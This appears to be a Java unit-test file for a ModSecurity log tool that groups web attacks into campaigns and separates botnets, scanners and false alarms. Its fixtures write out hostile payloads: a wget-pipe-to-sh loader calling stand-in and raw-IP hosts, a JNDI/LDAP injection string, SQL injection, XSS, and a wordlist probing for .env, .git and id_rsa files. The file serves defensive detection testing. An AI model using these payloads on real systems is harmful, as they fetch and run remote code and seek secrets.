package org.modsecexplorer.advise.campaign;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.modsecexplorer.audit.Outcome;

/** Who is joined, and who is not. */
class CampaignsTest {

    private static final String LOADER = "932100 ARGS:cmd ;wget http://loader.example.net/bins/arm7.sh|sh";
    private static final String ENV = "930130 REQUEST_FILENAME /.env";
    private static final List<String> WORDLIST = List.of("/.git/config", "/.env", "/backup.zip", "/wp-login.php", "/phpinfo.php", "/admin/", "/server-status", "/.svn/entries", "/id_rsa", "/db.sql");

    private final Traffic traffic = new Traffic();

    private void botnet(int bots, Duration from, Duration each) {
        for (int i = 0; i < bots; i++) {
            traffic.attack("203.0." + i / 200 + "." + (i % 200 + 1), from.plus(each.multipliedBy(i)), "/cgi-bin/test.cgi?cmd=x", Traffic.BROWSER, LOADER);
        }
    }

    private void scanner(String client, Duration from, String agent) {
        for (int i = 0; i < WORDLIST.size(); i++) {
            traffic.attack(client, from.plusSeconds(i * 2L), WORDLIST.get(i), agent, "930130 REQUEST_FILENAME " + WORDLIST.get(i));
        }
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 300})
    void aBotnetWithOneRequestEachIsOneCampaign(int unrelated) {
        traffic.noise(unrelated);
        botnet(200, Duration.ofDays(12), Duration.ofSeconds(20));
        List<Campaign> campaigns = traffic.campaigns();
        assertThat(campaigns).hasSize(1);
        Campaign campaign = campaigns.getFirst();
        assertThat(campaign.clients()).hasSize(200).contains(new Share("203.0.0.1", 1)).allMatch(share -> share.value().startsWith("203.0."));
        assertThat(campaign.requests()).isEqualTo(200);
        assertThat(campaign.first()).isEqualTo(Traffic.START.plus(Duration.ofDays(12)));
        assertThat(campaign.last()).isEqualTo(Traffic.START.plus(Duration.ofDays(12)).plusSeconds(199 * 20));
        assertThat(campaign.networks().first()).containsExactlyInAnyOrder(new Share("203.0.0.0/24", 200));
    }

    @Test
    void theReasonNamesThePayloadAndHowFewOthersHaveIt() {
        traffic.noise(300);
        botnet(40, Duration.ofDays(12), Duration.ofSeconds(20));
        Bond bond = traffic.campaigns().getFirst().bonds().stream().filter(each -> each.signs().size() == 1).findFirst().orElseThrow();
        assertThat(bond.signs()).containsExactly(new Sign.Payload(LOADER.split(" ", 3)[2]));
        assertThat(bond.clients()).isEqualTo(40);
        assertThat(bond.others()).isZero();
        assertThat(bond.expected()).isLessThan(1);
    }

    @Test
    void scannersWithTheSameWordlistDaysApartAreNotJoined() {
        scanner("203.0.113.1", Duration.ofDays(2), "Mozilla/5.0 zgrab/0.x");
        scanner("203.0.113.2", Duration.ofDays(6), "Mozilla/5.0 zgrab/0.x");
        scanner("203.0.113.3", Duration.ofDays(11), "Mozilla/5.0 zgrab/0.x");
        assertThat(traffic.campaigns()).isEmpty();
        assertThat(new Traffic().noise(200).campaigns()).isEmpty();
    }

    @Test
    void addressesThatTakeTheSamePathsInTheSameHourAreJoinedByTheirOrder() {
        traffic.noise(200);
        for (int i = 1; i <= 4; i++) {
            scanner("203.0.113." + i, Duration.ofDays(4).plusMinutes(i * 7L), "Mozilla/5.0 zgrab/0.x");
        }
        List<Campaign> campaigns = traffic.campaigns();
        assertThat(campaigns).hasSize(1);
        assertThat(campaigns.getFirst().clients()).hasSize(4);
        assertThat(campaigns.getFirst().bonds().stream().flatMap(bond -> bond.signs().stream()))
                .contains(new Sign.Order(List.of("/.git/config", "/.env", "/backup.zip", "/wp-login.php", "/phpinfo.php")));
    }

    @Test
    void whatEveryScannerSendsJoinsNobody() {
        for (int i = 0; i < 400; i++) {
            traffic.attack("203.0." + i / 200 + "." + (i % 200 + 1), Duration.ofMinutes(i * 107L), "/.env", i % 2 == 0 ? "Nuclei" : Traffic.BROWSER, ENV);
        }
        assertThat(traffic.campaigns()).isEmpty();
    }

    @Test
    void aBotnetDoesNotSwallowThoseWhoSendTheSameAtOtherTimes() {
        for (int i = 0; i < 60; i++) {
            traffic.attack("198.51.100." + i, Duration.ofHours(i * 12L), "/.env", "curl/8.5", ENV);
        }
        traffic.noise(400);
        for (int i = 0; i < 100; i++) {
            traffic.attack("203.0.113." + i, Duration.ofDays(9).plusSeconds(100 + i * 5L), "/.env", "Go-http-client/1.1", ENV);
        }
        List<Campaign> campaigns = traffic.campaigns();
        assertThat(campaigns).hasSize(1);
        assertThat(campaigns.getFirst().clients()).hasSizeBetween(100, 101).filteredOn(share -> share.value().startsWith("203.0.113.")).hasSize(100);
    }

    @Test
    void peopleWithFalseAlarmsAreInNoCampaign() {
        for (int i = 0; i < 80; i++) {
            String person = "192.0.2." + i;
            traffic.add(person, Duration.ofDays(3).plusSeconds(i * 30L), "/editor/save", Traffic.BROWSER, "941100 ARGS:body <script>alert(document.cookie)</script> as in the manual", true, Outcome.BLOCKED, 403);
            traffic.total(person, 30, 29);
            String guest = "192.0.3." + i;
            traffic.add(guest, Duration.ofDays(3).plusSeconds(i * 30L), "/search", Traffic.BROWSER, "942100 ARGS:q union of select workers from the north", false, Outcome.BLOCKED, 403);
        }
        assertThat(traffic.campaigns()).isEmpty();
    }

    @Test
    void peopleWhoSendWhatABotnetSendsStayOut() {
        botnet(50, Duration.ofDays(3), Duration.ofSeconds(10));
        traffic.add("192.0.2.7", Duration.ofDays(3).plusSeconds(15), "/tickets", Traffic.BROWSER, LOADER, true, Outcome.BLOCKED, 403).total("192.0.2.7", 40, 39);
        assertThat(traffic.campaigns().getFirst().clients()).hasSize(50).noneMatch(share -> share.value().equals("192.0.2.7"));
    }

    @Test
    void differentPayloadsOnOneTargetAreJoinedIfHardlyAnybodyElseTriesIt() {
        traffic.noise(300);
        for (int i = 0; i < 60; i++) {
            traffic.attack("203.0.113." + i, Duration.ofDays(5).plusSeconds(i * 50L), "/login.php", "Mozilla/5.0 (" + i + ")", "942100 ARGS:user admin" + i + "' or '" + i + "'='" + i);
        }
        Campaign campaign = traffic.campaigns().getFirst();
        assertThat(campaign.clients()).hasSize(60);
        assertThat(campaign.bonds().getFirst().signs()).containsExactly(new Sign.Attempt("/login.php", List.of(942_100)));
    }

    @Test
    void aScanSharedAmongAddressesIsJoinedByItsUnusualProgram() {
        traffic.noise(300);
        for (int i = 0; i < 300; i++) {
            traffic.attack("203.0.113." + i % 12, Duration.ofDays(5).plusSeconds(i * 3L), "/list/" + i + ".bak", "l33tbuster/0.3", "930130 REQUEST_FILENAME /list/" + i + ".bak");
        }
        Campaign campaign = traffic.campaigns().getFirst();
        assertThat(campaign.clients()).hasSize(12);
        assertThat(campaign.requests()).isEqualTo(300);
        assertThat(campaign.bonds()).anyMatch(bond -> bond.signs().equals(List.of(new Sign.Tool("l33tbuster/0.3"))));
    }

    @Test
    void oneSharedPayloadAmongHundredsDoesNotJoinAScannerWithABotnet() {
        traffic.noise(200);
        botnet(50, Duration.ofDays(3), Duration.ofSeconds(10));
        for (int i = 0; i < 200; i++) {
            traffic.attack("203.0.99.1", Duration.ofDays(3).plusSeconds(i), "/cgi-bin/a" + i, "sqlmap/1.8", i == 7 ? LOADER : "932100 ARGS:cmd ;own " + i);
        }
        assertThat(traffic.campaigns()).hasSize(1);
        assertThat(traffic.campaigns().getFirst().clients()).hasSize(50);
    }

    @Test
    void oneClientIsNoCampaign() {
        for (int i = 0; i < 500; i++) {
            traffic.attack("203.0.113.9", Duration.ofMinutes(i), "/cgi-bin/test.cgi", "curl/8.5", LOADER);
        }
        assertThat(traffic.campaigns()).isEmpty();
    }

    @Test
    void payloadsThatCallOneAddressAreOneCampaignHoweverFarApart() {
        traffic.noise(100);
        for (int i = 0; i < 6; i++) {
            traffic.attack("203.0.113." + i, Duration.ofDays(i * 4L), "/shell?cd+/tmp", "bot" + i, "932100 ARGS:c" + i + " cd /tmp" + i + ";wget http://45.13.227.8/m" + i + ".sh");
        }
        Campaign campaign = traffic.campaigns().getFirst();
        assertThat(campaign.clients()).hasSize(6);
        assertThat(campaign.bonds()).anyMatch(bond -> bond.signs().equals(List.of(new Sign.Server("45.13.227.8"))));
    }

    @Test
    void addressesThatComeAgainAreTheSameCampaign() {
        traffic.noise(200);
        botnet(30, Duration.ofDays(3), Duration.ofSeconds(10));
        for (int i = 0; i < 30; i++) {
            traffic.attack("203.0.0." + (i + 1), Duration.ofDays(8).plusSeconds(i), "/login.action", "Mozilla/5.0 (Windows)", "944150 ARGS:u ${jndi:ldap://other.example.org/a" + "b}");
        }
        List<Campaign> campaigns = traffic.campaigns();
        assertThat(campaigns).hasSize(1);
        assertThat(campaigns.getFirst().requests()).isEqualTo(60);
        assertThat(campaigns.getFirst().bonds()).anyMatch(bond -> bond.signs().equals(List.of(new Sign.SameClients())));
    }

    @Test
    void attacksThatPassedWithAPageAreCountedAsSuccess() {
        botnet(20, Duration.ofDays(3), Duration.ofSeconds(10));
        traffic.add("203.0.0.3", Duration.ofDays(3).plusSeconds(40), "/cgi-bin/test.cgi?cmd=x", Traffic.BROWSER, LOADER, false, Outcome.NOTICED, 200);
        traffic.add("203.0.0.4", Duration.ofDays(3).plusSeconds(41), "/cgi-bin/test.cgi?cmd=x", Traffic.BROWSER, LOADER, false, Outcome.WOULD_BLOCK, 404);
        assertThat(traffic.campaigns().getFirst().outcomes()).isEqualTo(new Outcomes(20, 1, 1, 1));
    }

    @Test
    void aClientWhoseOnlyAttackPassedIsPartOfTheCampaign() {
        traffic.noise(200);
        botnet(20, Duration.ofDays(3), Duration.ofSeconds(10));
        for (int i = 0; i < 3; i++) {
            traffic.add("203.0.9.9", Duration.ofDays(3).plusSeconds(70 + i), "/cgi-bin/test.cgi?cmd=x", Traffic.BROWSER, LOADER, false, Outcome.NOTICED, 200);
        }
        traffic.total("203.0.9.9", 3, 3);
        assertThat(traffic.campaigns().getFirst().clients()).contains(new Share("203.0.9.9", 3));
    }

    @Test
    void theFilterNamesAllClientsAndTheSpan() {
        botnet(3, Duration.ofDays(3), Duration.ofSeconds(10));
        traffic.noise(100);
        assertThat(traffic.campaigns().getFirst().filter())
                .isEqualTo("(ip:203.0.0.1 or ip:203.0.0.2 or ip:203.0.0.3) matches:>0 since:2026-11-04T00:00 until:2026-11-04T00:00:21");
    }

    @Test
    void tooManyAddressesHaveNoFilterButIds() {
        botnet(AddressTerms.MOST + 1, Duration.ofDays(3), Duration.ofSeconds(2));
        Campaign campaign = traffic.campaigns().getFirst();
        assertThat(campaign.filter()).isNull();
        assertThat(campaign.ids()).hasSize(AddressTerms.MOST + 1);
    }

    @Test
    void anEmptyLogHasNone() {
        assertThat(traffic.campaigns()).isEmpty();
    }

    @Test
    void requestsWithoutATimeOrAnAddressAreInNone() {
        IntStream.range(0, 60).forEach(i -> traffic.attack("", Duration.ofSeconds(i), "/a", Traffic.BROWSER, LOADER));
        IntStream.range(0, 60).forEach(i -> traffic.attack("203.0.113." + i, Duration.between(Traffic.START, Instant.EPOCH), "/a", Traffic.BROWSER, LOADER));
        assertThat(traffic.campaigns()).isEmpty();
    }
}
